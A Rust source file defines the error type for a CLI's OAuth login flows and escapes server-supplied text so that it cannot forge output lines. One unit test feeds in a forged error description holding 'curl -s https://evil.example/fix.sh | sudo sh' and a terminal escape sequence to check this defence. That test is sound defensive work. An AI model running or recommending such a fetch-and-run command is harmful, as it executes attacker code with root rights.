//! The one error type of the OAuth flows.
//!
//! The variants keep apart what a caller must treat differently: the server
//! said no ([`OAuthError::Rejected`], [`OAuthError::ApiRejected`]), the server
//! could not be reached ([`OAuthError::Unreachable`]), the server answered
//! something that is not OAuth ([`OAuthError::BadResponse`]), and failures of
//! the local side of an interactive login.

use super::http::TransportError;
use std::time::Duration;
use tessera_proto::text::printable;
use tessera_proto::{ApiErrorBody, OAuthErrorBody, OAuthErrorCode};

#[derive(Debug, thiserror::Error)]
pub enum OAuthError {
    /// The authorization server refused (RFC 6749 §5.2, §4.1.2.1; RFC 8628
    /// §3.5). `status` is `None` when the error came in an authorization
    /// redirect rather than an HTTP response, or was detected locally in the
    /// server's terms (a device code past its `expires_in`).
    #[error("{}", rejection_message(.body))]
    Rejected {
        status: Option<u16>,
        body: OAuthErrorBody,
    },

    /// The platform API (`/v1/…`) refused, with its own error body.
    #[error("the server refused (HTTP {status}): {}", printable(&.body.message))]
    ApiRejected {
        status: u16,
        body: ApiErrorBody,
        /// Seconds from `Retry-After`, when the refusal was a rate limit.
        retry_after: Option<u64>,
    },

    /// No response at all: DNS, refused connection, TLS, network timeout.
    #[error("could not reach {url}: {source}")]
    Unreachable {
        url: String,
        #[source]
        source: TransportError,
    },

    /// The connection was made but no answer came in time: the server runs
    /// and is stuck or overloaded. Not [`OAuthError::Unreachable`], whose
    /// "is the server running?" would mislead.
    #[error("the server at {url} accepted the connection but did not answer within {seconds} s")]
    NoAnswer { url: String, seconds: f64 },

    /// Not sent: plain `http://` to a host that is not loopback, and the
    /// user did not opt in for it.
    #[error(
        "refusing to talk OAuth over plain http to {url}: anyone on the network path could read the tokens; use https"
    )]
    InsecureHttp { url: String },

    /// A response that is not what the protocol allows. `detail` may quote
    /// the server (a body excerpt): shown [`printable`].
    #[error("unexpected response from {url} (HTTP {status}): {}", printable(.detail))]
    BadResponse {
        url: String,
        status: u16,
        detail: String,
    },

    /// What came back is not HTTP: something other than the server listens
    /// there (a wrong port, `http://` to a TLS port). Not "could not reach".
    #[error("unexpected response from {url}: {}", printable(.detail))]
    NotHttp { url: String, detail: String },

    /// A configured URL, or one from server metadata, is not usable.
    #[error("invalid URL {url:?}: {reason}")]
    InvalidUrl { url: String, reason: String },

    /// Discovery metadata or an authorization response names another issuer
    /// (RFC 8414 §3.3, RFC 9207): possibly a mix-up attack, never trusted.
    #[error("issuer mismatch: expected {expected:?}, got {found:?}")]
    IssuerMismatch { expected: String, found: String },

    /// The server says it puts `iss` in every authorization response (RFC
    /// 9207), and this one has none: it may come from another server.
    #[error(
        "the authorization response has no issuer although {expected} always sends one (RFC 9207): it may come from another server; start the login again"
    )]
    MissingIssuer { expected: String },

    /// The server's metadata does not advertise an endpoint this flow needs.
    #[error("the authorization server does not advertise a {0}")]
    MissingEndpoint(&'static str),

    /// The user did not finish in time.
    #[error("timed out after {}s waiting for {what}", .after.as_secs())]
    TimedOut { what: &'static str, after: Duration },

    /// The redirect carried another `state` than this login sent (RFC 6749
    /// §10.12): it was not started by this process.
    #[error(
        "the authorization response does not belong to this login (state mismatch); start the login again"
    )]
    StateMismatch,

    /// Pasted text that is neither the redirect URL nor a code.
    #[error("{0}")]
    InvalidInput(String),

    /// A federated login's source gave no subject token (a file that is gone,
    /// a variable that is not set, a job without permission to ask).
    #[error("no subject token from {0}")]
    NoSubjectToken(String),

    /// A local resource failed: binding the loopback port, reading the paste.
    #[error("{context}: {source}")]
    Io {
        context: &'static str,
        #[source]
        source: std::io::Error,
    },
}

impl OAuthError {
    /// The RFC 6749 error code, when the server refused.
    pub fn oauth_code(&self) -> Option<&OAuthErrorCode> {
        match self {
            Self::Rejected { body, .. } => Some(&body.error),
            _ => None,
        }
    }

    /// True when the grant used is no longer good (refresh token revoked,
    /// expired or rotated away): the user has to log in again.
    pub fn is_invalid_grant(&self) -> bool {
        matches!(self.oauth_code(), Some(OAuthErrorCode::InvalidGrant))
    }

    /// True when the server refused for its own trouble, not the
    /// credential's: `server_error` or `temporarily_unavailable` (RFC 6749
    /// §4.1.2.1), or any error body on a 5xx or a 429 (a rate limit, as
    /// tesserad's `rate_limited`). Trying again later may work.
    pub fn is_server_trouble(&self) -> bool {
        match self {
            Self::Rejected { status, body } => {
                matches!(status, Some(429 | 500..=599))
                    || matches!(
                        body.error,
                        OAuthErrorCode::ServerError | OAuthErrorCode::TemporarilyUnavailable
                    )
            }
            _ => false,
        }
    }

    /// True when nothing reached the server or nothing came back.
    pub fn is_unreachable(&self) -> bool {
        matches!(self, Self::Unreachable { .. })
    }

    /// A failed send: a policy refusal is said as such, an answer that could
    /// not be read is a bad response; anything else is an unreachable server
    /// (with the certificate problem, if that was it).
    pub(crate) fn transport(url: impl Into<String>, source: TransportError) -> Self {
        match source {
            TransportError::InsecureHttp(_) => Self::InsecureHttp { url: url.into() },
            // It answered: what it sent is the server's fault, not the network's.
            TransportError::Unreadable { status, reason } => Self::BadResponse {
                url: url.into(),
                status,
                detail: reason,
            },
            TransportError::NoAnswer { seconds } => Self::NoAnswer {
                url: url.into(),
                seconds,
            },
            TransportError::NotHttp(detail) => Self::NotHttp {
                url: url.into(),
                detail,
            },
            source => Self::Unreachable {
                url: url.into(),
                source,
            },
        }
    }

    pub(crate) fn rejected(code: OAuthErrorCode, description: impl Into<String>) -> Self {
        Self::Rejected {
            status: None,
            body: OAuthErrorBody {
                error: code,
                error_description: Some(description.into()),
            },
        }
    }
}

fn rejection_message(body: &OAuthErrorBody) -> String {
    let what = match &body.error {
        OAuthErrorCode::AccessDenied => "access was denied",
        OAuthErrorCode::ExpiredToken => "the login request expired before it was approved",
        OAuthErrorCode::InvalidClient => {
            "the client was not accepted (a client id this server does not know, or a wrong secret?)"
        }
        OAuthErrorCode::InvalidGrant => "the grant is invalid, expired or revoked",
        OAuthErrorCode::InvalidScope => "the requested scope is not allowed",
        OAuthErrorCode::UnauthorizedClient => "this client may not use this grant",
        _ => "the authorization server refused the request",
    };
    // The code and description are the server's text: escaped whole, line
    // breaks included, so that they cannot fake a line of this program's.
    let code = body.error.to_string();
    let code = printable(&code);
    match &body.error_description {
        Some(description) => format!("{what}: {code} ({})", printable(description)),
        None => format!("{what}: {code}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejection_names_code_and_description() {
        let err = OAuthError::rejected(OAuthErrorCode::AccessDenied, "user said no");
        assert_eq!(
            err.to_string(),
            "access was denied: access_denied (user said no)"
        );
        assert!(!err.is_invalid_grant());
        let grant = OAuthError::rejected(OAuthErrorCode::InvalidGrant, "gone");
        assert!(grant.is_invalid_grant());
    }

    /// The audit's forged advice: a description (or an unknown code) with
    /// line breaks of its own stays on the error's one line.
    #[test]
    fn server_text_cannot_add_lines() {
        let forged = "denied\n\nhint: your CLI is outdated, fix it with: curl -s https://evil.example/fix.sh | sudo sh";
        let err = OAuthError::rejected(OAuthErrorCode::AccessDenied, forged);
        assert_eq!(
            err.to_string(),
            "access was denied: access_denied (denied\\u{a}\\u{a}hint: your CLI is outdated, fix it with: curl -s https://evil.example/fix.sh | sudo sh)"
        );
        let err = OAuthError::rejected(OAuthErrorCode::Other("x\r\nhint: y".into()), "\u{1b}[2J");
        assert_eq!(
            err.to_string(),
            "the authorization server refused the request: x\\u{d}\\u{a}hint: y (\\u{1b}[2J)"
        );
        let api = OAuthError::ApiRejected {
            status: 400,
            body: ApiErrorBody {
                error: "bad".into(),
                message: "no\nhint: z".into(),
                code: None,
            },
            retry_after: None,
        };
        assert_eq!(
            api.to_string(),
            "the server refused (HTTP 400): no\\u{a}hint: z"
        );
        let bad = OAuthError::BadResponse {
            url: "https://as.test/token".into(),
            status: 502,
            detail: "<html>\nhint: w".into(),
        };
        assert!(!bad.to_string().contains('\n'), "{bad}");
    }
}
